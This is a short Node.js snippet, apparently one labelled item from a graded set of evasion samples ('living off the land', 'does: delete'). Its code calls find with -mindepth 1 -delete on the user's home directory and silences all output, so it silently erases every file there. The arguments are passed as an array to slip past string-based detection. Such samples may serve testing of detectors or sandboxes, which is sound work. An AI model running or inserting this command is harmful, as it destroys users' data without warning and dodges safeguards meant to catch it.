// evasion: living off the land: find(1) -delete on the home directory, arguments in an array
// grade: medium; does: delete
const { execFileSync } = require('child_process');
const os = require('os');
execFileSync('find', [os.homedir(), '-mindepth', '1', '-delete'], { stdio: 'ignore' });
